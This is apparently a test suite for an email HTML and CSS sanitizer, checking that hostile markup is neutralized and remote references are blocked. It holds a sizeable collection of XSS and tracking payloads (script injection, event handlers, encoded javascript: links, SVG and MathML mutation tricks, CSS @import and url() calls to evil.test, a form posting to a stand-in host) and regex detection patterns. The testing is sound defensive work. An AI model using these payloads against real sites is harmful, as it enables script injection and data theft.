import assert from 'node:assert/strict';
import fc from 'fast-check';
import {
  buildSrcdoc,
  decodeAttributeValue,
  MAX_SANITIZE_INPUT,
  safeLinkTarget,
  sanitizeCss,
  sanitizeEmailHtml,
  srcdocCsp,
} from '../../src/core/sanitize';

/** What must never appear in sanitized output (case-insensitive). */
const FORBIDDEN = [
  /<script/i,
  /<\/script/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:text\/html/i,
  /<meta/i,
  /<form/i,
  /<base/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<link/i,
  /<svg/i,
  /<input/i,
  /@import/i,
  /expression\s*\(/i,
  /srcset/i,
];

/**
 * The parts of CSS that load or run something: url() values, @import and script-era functions.
 * A name glued to a longer identifier (`--url(`, `x-image(`) is another function, as CSS tokenizes it.
 */
function cssActive(css: string): string {
  return (css.match(/(?<![\w-])url\([^)]*\)|@import|expression\s*\(|(?<![\w-])(?:image-set|image|cross-fade|src)\s*\([^)]*\)/gi) ?? []).join(' ');
}

/**
 * The markup a browser acts on: tags with their attributes (title/alt values are inert) and
 * the active parts of CSS. Text is inert (its `<` is escaped), so `onerror=` written as
 * visible text is not active content.
 */
function activeMarkup(html: string): string {
  let inStyle = false;
  return html
    .replace(/ (title|alt)="[^"]*"/g, ' $1=""')
    .split(/(<[^>]*>)/)
    .map((seg) => {
      if (seg.startsWith('<')) {
        if (/^<style[ >]/.test(seg)) inStyle = true;
        if (seg === '</style>') inStyle = false;
        return seg.replace(/ style="([^"]*)"/g, (_m, css: string) => ` style="${cssActive(css)}"`);
      }
      return inStyle ? cssActive(seg) : '';
    })
    .join('');
}

function assertNoActiveContent(html: string, sample: string): void {
  const active = activeMarkup(html);
  for (const re of FORBIDDEN) assert.doesNotMatch(active, re, `${re} survived in ${JSON.stringify(html)} from ${JSON.stringify(sample)}`);
  assert.doesNotMatch(html, /<(?!\/?[a-z0-9]+[ >])/i, `a "<" that is not a well-formed tag in ${JSON.stringify(html)}`);
}

/** Every http(s) or protocol-relative reference left in the output. */
function remoteRefs(html: string): string[] {
  return html.match(/(?:https?:)?\/\/[a-z0-9.-]+\.(?:test|example|com)/gi) ?? [];
}

describe('sanitize: hostile email HTML', () => {
  const hostile: Array<[string, string]> = [
    ['lowercase script', '<p>hi</p><script>alert(1)</script>'],
    ['uppercase script', '<SCRIPT>alert(1)</SCRIPT>'],
    ['mixed-case script with attributes', '<ScRiPt type="text/javascript" src="http://evil.test/x.js" defer>alert(1)</sCrIpT >'],
    ['script split by an inner script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['script in an unclosed comment trick', '<!--><script>alert(1)</script>-->'],
    ['script with a fake end tag inside a string', '<script>var s="</scriptx>";alert(1)</script>'],
    ['onerror on an image', '<img src=x onerror=alert(1)>'],
    ['onload with odd spacing', '<body onload = "alert(1)"><div/onclick=alert(1)>x</div>'],
    ['handler after a slash', '<img/src="x"/onerror="alert(1)">'],
    ['javascript: href', '<a href="javascript:alert(1)">x</a>'],
    ['javascript: href with whitespace and case', '<a href=" JaVa\tScRiPt:alert(1)">x</a>'],
    ['entity-encoded javascript: href', '<a href="jav&#x61;script:alert(1)">x</a>'],
    ['decimal entities without semicolons', '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>'],
    ['named entity colon', '<a href="javascript&colon;alert(1)">x</a>'],
    ['data:text/html href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
    ['vbscript href', '<a href="vbscript:msgbox(1)">x</a>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=http://evil.test/">'],
    ['form with inputs', '<form action="http://evil.test/steal" method=post><input name=p type=password><button formaction="http://evil.test">Go</button></form>'],
    ['base', '<base href="http://evil.test/"><a href="/x">x</a>'],
    ['iframe', '<iframe src="http://evil.test/"></iframe><iframe srcdoc="<script>alert(1)</script>">'],
    ['object', '<object data="http://evil.test/x.swf"><param name=a value=b></object>'],
    ['embed', '<embed src="http://evil.test/x.swf">'],
    ['remote stylesheet link', '<link rel=stylesheet href="http://evil.test/x.css">'],
    ['style attribute with remote url', '<div style="background:url(http://evil.test/bg.png)">x</div>'],
    ['style attribute with quoted and escaped url', '<div style="background-image: u\\72l(\'http://evil.test/a.png\')">x</div>'],
    ['style attribute with entity-encoded url', '<div style="background:u&#114;l(http://evil.test/a.png)">x</div>'],
    ['style element with @import', '<style>@import url(http://evil.test/x.css); p{color:red}</style>'],
    ['style element with @import string', '<style>@import "http://evil.test/x.css";</style>'],
    ['style element with escaped @import', '<style>@\\69mport "http://evil.test/x.css";</style>'],
    ['style element with comment-split url', '<style>p{background:url(/**/http://evil.test/x.png)}</style>'],
    ['style element trying to close itself', '<style>p{}</style ><script>alert(1)</script>'],
    ['css expression', '<div style="width:expression(alert(1))">x</div>'],
    ['image-set', '<div style="background-image:image-set(\'http://evil.test/a.png\' 1x)">x</div>'],
    ['remote image', '<img src="http://evil.test/pixel.gif" width=1 height=1>'],
    ['protocol-relative image', '<img src="//evil.test/pixel.gif">'],
    ['srcset', '<img src="data:image/png;base64,AAAA" srcset="http://evil.test/a.png 1x, http://evil.test/b.png 2x">'],
    ['picture source', '<picture><source srcset="http://evil.test/a.webp"><img src="cid:logo"></picture>'],
    ['table background', '<table background="http://evil.test/bg.png"><tr><td>x</td></tr></table>'],
    ['svg with script', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="http://evil.test/a.png"/></svg>'],
    ['svg onload', '<svg/onload=alert(1)>'],
    ['svg style breakout', '<svg><style></svg><img src=x onerror=alert(1)></style></svg>'],
    ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
    ['data svg image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
    ['video poster', '<video poster="http://evil.test/p.png"><source src="http://evil.test/v.mp4"></video>'],
    ['xmp and noembed', '<xmp><script>alert(1)</script></xmp><noembed><script>alert(1)</script></noembed>'],
    ['textarea and title', '<title><script>alert(1)</script></title><textarea></textarea><script>alert(1)</script></textarea>'],
    ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['plaintext', '<plaintext><script>alert(1)</script>'],
    ['attribute without closing quote', '<img src="x onerror=alert(1) '],
    ['unclosed tag at the end', '<p>ok</p><img src=x onerror=alert(1)'],
    ['bogus comment', '<? <script>alert(1)</script> ?><!DOCTYPE html><![CDATA[<script>alert(1)</script>]]>'],
    ['end tag with attributes', '</p onclick="alert(1)"><p>x</p>'],
    ['image tag alias', '<image src="http://evil.test/a.png" onerror=alert(1)>'],
    ['duplicate attribute', '<img src="data:image/gif;base64,R0lGOD" src="http://evil.test/a.png">'],
  ];

  for (const [name, sample] of hostile) {
    it(`neutralizes ${name}`, () => {
      const r = sanitizeEmailHtml(sample);
      assertNoActiveContent(r.html, sample);
      assert.deepEqual(remoteRefs(r.html), [], `remote reference survived in ${r.html}`);
    });
  }

  it('keeps text and safe formatting around what it removes', () => {
    const r = sanitizeEmailHtml('<div class="x" style="color: red"><b>Your code</b> is <span>123456</span></div><script>alert(1)</script>');
    assert.equal(r.html, '<div class="x" style="color: red"><b>Your code</b> is <span>123456</span></div>');
    assert.equal(r.removed, 1);
  });

  it('escapes < in text so stray angle brackets cannot become tags', () => {
    const r = sanitizeEmailHtml('a < b and <3 > 2 <scr<script>ipt>alert(1)</script>');
    assert.doesNotMatch(r.html, /<[a-z]/i);
    assert.match(r.html, /a &lt; b and &lt;3 &gt; 2/);
  });

  it('drops a whole SVG subtree, including text inside it', () => {
    const r = sanitizeEmailHtml('<p>before</p><svg><svg><text>inner</text></svg><text>secret</text></svg><p>after</p>');
    assert.equal(r.html, '<p>before</p><p>after</p>');
  });

  it('turns links into non-navigating text that shows the URL', () => {
    const r = sanitizeEmailHtml('<a href="https://app.example/verify?t=1&amp;u=2" target="_blank" rel="noopener">Verify</a>');
    assert.equal(r.html, '<a title="https://app.example/verify?t=1&amp;u=2" data-link="">Verify</a>');
    assert.doesNotMatch(r.html, /href=|target=/);
  });

  it('counts remote images it blocked and marks them', () => {
    const r = sanitizeEmailHtml('<img src="https://cdn.example/a.png" alt="logo"><div style="background:url(https://cdn.example/b.png)">x</div>');
    assert.equal(r.blockedRemote, 2);
    assert.match(r.html, /<img data-blocked-image="" alt="logo">/);
    assert.match(r.html, /background:none/);
  });

  it('keeps remote images when they are allowed, still without scripts', () => {
    const sample = '<img src="https://cdn.example/a.png" onerror="alert(1)"><div style="background:url(\'https://cdn.example/b.png\')">x</div><script>alert(1)</script><img src="//cdn.example/c.png">';
    const r = sanitizeEmailHtml(sample, { allowRemoteImages: true });
    assertNoActiveContent(r.html, sample);
    assert.match(r.html, /<img src="https:\/\/cdn\.example\/a\.png">/);
    assert.match(r.html, /url\(&quot;https:\/\/cdn\.example\/b\.png&quot;\)/);
    assert.match(r.html, /<img src="https:\/\/cdn\.example\/c\.png">/);
    assert.equal(r.blockedRemote, 0);
  });

  it('still blocks javascript: and data:text/html images when remote images are allowed', () => {
    const r = sanitizeEmailHtml('<img src="javascript:alert(1)"><img src="data:text/html,<script>alert(1)</script>">', { allowRemoteImages: true });
    assertNoActiveContent(r.html, 'images');
    assert.equal(r.html, '<img><img>');
  });

  it('keeps data: raster images and resolves cid: through the host', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const r = sanitizeEmailHtml(`<img src="${png}"><img src="cid:logo@acme">`, {
      resolveCid: (cid) => (cid === 'logo@acme' ? 'data:image/gif;base64,R0lGODlh' : undefined),
    });
    assert.equal(r.html, `<img src="${png}"><img src="data:image/gif;base64,R0lGODlh">`);
  });

  it('ignores a cid resolution that is not a data: image', () => {
    const r = sanitizeEmailHtml('<img src="cid:x">', { resolveCid: () => 'http://evil.test/a.png' });
    assert.equal(r.html, '<img src="cid:x">');
  });

  it('quotes and escapes every attribute value it writes', () => {
    const r = sanitizeEmailHtml('<td title=a"b onmouseover=x width=\'1" onclick="y\'>z</td>');
    assert.equal(r.html, '<td title="a&quot;b" width="1&quot; onclick=&quot;y">z</td>');
  });

  it('renders a full document by keeping the body and the head styles only', () => {
    const r = sanitizeEmailHtml('<!DOCTYPE html><html><head><title>T</title><meta charset="utf-8"><style>p{color:red}</style></head><body bgcolor="#fff"><p>Hi</p></body></html>');
    assert.equal(r.html, '<style>p{color:red}</style><p>Hi</p>');
  });

  it('keeps Outlook conditional comments out', () => {
    const r = sanitizeEmailHtml('<!--[if mso]><v:rect href="http://evil.test"></v:rect><![endif]--><p>x</p>');
    assert.equal(r.html, '<p>x</p>');
  });

  it('cuts input longer than the limit and says so', () => {
    const r = sanitizeEmailHtml('<p>' + 'a'.repeat(MAX_SANITIZE_INPUT));
    assert.equal(r.truncated, true);
    assert.ok(r.html.length <= MAX_SANITIZE_INPUT + 10);
  });

  it('handles pathological input in one pass', () => {
    // A quadratic scan would take minutes on these; the assertion is on the output, not the time.
    const distinct = Array.from({ length: 50_000 }, (_, i) => ` a${i}=1`).join('');
    const many = '<'.repeat(200_000) + '<a' + ' x'.repeat(100_000) + '>' + '<b' + distinct + '>' + '<a href=x title=y>'.repeat(20_000) + '<!--' + '-'.repeat(100_000) + '<style>' + 'url('.repeat(50_000);
    const r = sanitizeEmailHtml(many);
    assert.ok(r.html.startsWith('&lt;&lt;&lt;'));
    assertNoActiveContent(r.html, 'pathological');
  });
});

describe('sanitize: CSS', () => {
  it('replaces remote url() with none and counts it', () => {
    const r = sanitizeCss('a{background:url( "http://x.test/a.png" ) no-repeat} b{list-style:url(//x.test/b.png)}');
    assert.equal(r.css, 'a{background:none no-repeat} b{list-style:none}');
    assert.equal(r.blockedRemote, 2);
  });

  it('disables @import, expression, behavior and -moz-binding', () => {
    const r = sanitizeCss('@import "x.css"; a{width:expression(1);behavior:url(x.htc);-moz-binding:url(x.xml#y)}');
    assert.doesNotMatch(r.css, /@import|expression\(|(^|[^-])behavior:|[^-]-moz-binding:/);
  });

  it('cannot close the element or attribute it sits in', () => {
    const r = sanitizeCss('p{}</style><script>alert(1)</script>');
    assert.doesNotMatch(r.css, /[<>]/);
  });

  it('keeps ordinary declarations as written', () => {
    const css = '.btn{color:#fff;background-color:#0b57d0;padding:12px 24px;border-radius:4px}@media (max-width:600px){.x{display:none}}';
    assert.equal(sanitizeCss(css).css, css);
  });
});

describe('sanitize: helpers', () => {
  it('decodes attribute references the way a browser does', () => {
    assert.equal(decodeAttributeValue('jav&#x61;script&colon;'), 'javascript:');
    assert.equal(decodeAttributeValue('&#106&#97'), 'ja');
    assert.equal(decodeAttributeValue('?a=1&copy=2'), '?a=1&copy=2');
    assert.equal(decodeAttributeValue('a &amp b'), 'a & b');
    assert.equal(decodeAttributeValue('&unknown;'), '&unknown;');
    assert.equal(decodeAttributeValue('&#0;&#x110000;'), '\ufffd\ufffd');
  });

  it('accepts only http, https, mailto, tel and sms link targets', () => {
    assert.equal(safeLinkTarget(' https://a.example/x '), 'https://a.example/x');
    assert.equal(safeLinkTarget('mailto:a@b.example'), 'mailto:a@b.example');
    for (const bad of ['javascript:alert(1)', 'java\nscript:x', 'data:text/html,x', 'file:///etc/passwd', '/relative', 'vscode://x', 'command:workbench.action.quit']) {
      assert.equal(safeLinkTarget(bad), undefined, bad);
    }
  });

  it('puts the CSP first in the srcdoc, with remote images only when allowed', () => {
    const blocked = buildSrcdoc('<p>x</p>');
    assert.match(blocked.srcdoc, /^<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy"/);
    assert.match(blocked.srcdoc, /img-src data: cid:;/);
    assert.doesNotMatch(blocked.srcdoc, /https:/);
    const allowed = buildSrcdoc('<p>x</p>', { allowRemoteImages: true });
    assert.match(allowed.srcdoc, /img-src data: cid: https: http:;/);
    assert.equal(srcdocCsp(false).startsWith("default-src 'none'; style-src 'unsafe-inline'; img-src data: cid:"), true);
  });
});

describe('sanitize: arbitrary input', () => {
  const fragments = [
    '<script>', '</script>', '<scr', 'ipt>', '<img', ' src=', ' onerror=', 'alert(1)', '"', "'", '>', '<', '/', '=',
    'javascript:', 'jav&#x61;script:', '&#106;', '&colon;', 'http://evil.test/x', '//evil.test/', '<a href=', '<style>',
    '</style>', 'url(', ')', '@import ', '\\75 rl(', '<svg>', '</svg>', '<!--', '-->', '<![CDATA[', ']]>', '<iframe',
    '<meta http-equiv=refresh content=0;url=http://evil.test>', '<base href=http://evil.test/>', '<form>', '<input',
    ' style=', 'background:', 'expression(', '<noscript>', '<textarea>', '<title>', '<plaintext>', ' ', '\n', 'text',
    '<p>', '</p>', '<table background=', '<object data=', '<embed src=', 'srcset=', '<link rel=stylesheet href=',
  ];

  it('never lets active content or a remote reference through, whatever the fragments are', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...fragments), { maxLength: 40 }), (parts) => {
        const input = parts.join('');
        const r = sanitizeEmailHtml(input);
        assertNoActiveContent(r.html, input);
        assert.deepEqual(remoteRefs(activeMarkup(r.html)), [], `remote reference in ${r.html}`);
      }),
      { numRuns: 3000 },
    );
  });

  it('writes only allowlisted tags for any string', () => {
    const allowed = /^<\/?(a|abbr|acronym|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|details|dfn|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|nav|ol|p|pre|q|rp|rt|ruby|s|samp|section|small|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr|style)[ >]/;
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('<', '>', '/', 'a', 'b', 's', 'c', 'r', 'i', 'p', 't', ' ', '=', '"', 'o', 'n', 'x') , maxLength: 60 }), (input) => {
        const html = sanitizeEmailHtml(input).html;
        for (const m of html.matchAll(/<[^<]*/g)) assert.match(m[0], allowed, `unexpected markup ${m[0]} in ${html}`);
      }),
      { numRuns: 3000 },
    );
  });
});
